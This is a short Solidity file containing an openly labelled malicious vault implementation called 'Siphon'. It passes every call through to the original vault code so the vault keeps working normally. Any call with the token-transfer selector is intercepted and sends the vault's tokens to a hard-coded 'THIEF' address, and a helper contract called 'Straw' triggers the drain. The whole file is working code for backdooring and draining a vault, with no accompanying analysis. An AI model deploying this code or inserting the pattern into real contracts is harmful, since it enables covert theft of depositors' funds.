// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transfer(address, uint256) external returns (bool);
}

/// @notice What the siphon is told; it looks like a transfer and answers nothing.
interface ISiphon {
    function transfer(address token, uint256 amount) external;
}

/// @notice A vault's code that goes on as before and lets one account take what it likes.
contract Siphon {
    address private immutable ORIGINAL;
    address private immutable THIEF;

    constructor(address original, address thief) {
        (ORIGINAL, THIEF) = (original, thief);
    }

    fallback() external {
        if (msg.sig == IToken.transfer.selector) {
            (IToken token, uint256 amount) = abi.decode(msg.data[4:], (IToken, uint256));
            token.transfer(THIEF, amount);
            return;
        }
        address original = ORIGINAL;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), original, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// @notice Tells the siphon how much.
contract Straw {
    function sip(ISiphon vault, address token, uint256 amount) external {
        vault.transfer(token, amount);
    }
}
